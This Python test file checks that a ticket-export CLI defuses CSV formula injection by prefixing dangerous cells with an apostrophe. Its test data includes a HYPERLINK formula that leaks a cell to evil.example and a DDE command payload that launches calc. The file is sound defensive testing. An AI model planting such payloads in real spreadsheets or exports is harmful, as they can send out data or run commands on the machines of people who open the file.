"""``linli export tickets --format csv`` never hands a spreadsheet a formula (CSV injection).

Residents file reports through ``linli console`` whose text starts like a formula; a captain closes
one with a note that is a formula.  In the CSV each such cell starts with ``'`` (OWASP's rule for
cells starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return, also after spaces), so Excel
and LibreOffice show it as text; JSON keeps the text exactly as it was written.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest

from bot.cli.export import spreadsheet_safe
from tests.harness import EXAMPLE_CONFIG, ROOT

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
DANGEROUS = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]


def linli(*args: str, stdin: str = "") -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "bot", *args, "--config", str(EXAMPLE_CONFIG)],
                          input=stdin, capture_output=True, text=True, timeout=120, cwd=ROOT,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})


def test_formulas_typed_in_chat_are_text_in_the_csv_and_as_written_in_json(tmp_path):
    db = str(tmp_path / "linli.db")
    script = "".join(f"b3 r{n}: 报修 {text}\n" for n, text in enumerate(DANGEROUS))
    script += "b3 r9: 报修 3栋电梯坏了\n"
    script += "dm wang: 已解决 1 =1+1\n"
    filed = linli("console", "--db", db, stdin=script)
    assert filed.returncode == 0, filed.stderr
    assert "[dm r9] ✅ 已收到报修 #5" in filed.stdout

    result = linli("export", "tickets", "--since", "2000-01-01", "--format", "csv", "--db", db)
    assert result.returncode == 0, result.stderr
    rows = {r["service_request_id"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
    assert [rows[str(n + 1)]["description"] for n in range(4)] == ["'" + text for text in DANGEROUS]
    assert rows["1"]["status_notes"] == "'=1+1"
    assert rows["5"]["description"] == "3栋电梯坏了"  # ordinary text is left alone
    assert rows["5"]["requested_datetime"][:2] == "20"  # so are dates
    for row in rows.values():
        assert not any(cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))
                       for cell in row.values())

    out = tmp_path / "tickets.csv"
    written = linli("export", "tickets", "--since", "2000-01-01", "--format", "csv", "--out",
                    str(out), "--db", db)
    assert written.returncode == 0, written.stderr
    assert out.read_text(encoding="utf-8") == result.stdout

    result = linli("export", "tickets", "--since", "2000-01-01", "--format", "json", "--db", db)
    assert result.returncode == 0, result.stderr
    requests = {r["service_request_id"]: r for r in json.loads(result.stdout)}
    assert [requests[str(n + 1)]["description"] for n in range(4)] == DANGEROUS
    assert requests["1"]["status_notes"] == "=1+1"


@pytest.mark.parametrize(("cell", "safe"), [
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\tplain", "'\tplain"),
    ("  =1+1", "'  =1+1"),
    ("\u3000=1+1", "'\u3000=1+1"),  # a full-width space first
    ("\n@x", "'\n@x"),
    ("3栋电梯坏了 =1+1", "3栋电梯坏了 =1+1"),
    ("2026-12-01T09:00:00+08:00", "2026-12-01T09:00:00+08:00"),
    ("", ""),
    ("'=1+1", "'=1+1"),
])
def test_which_cells_are_neutralised(cell, safe):
    assert spreadsheet_safe(cell) == safe
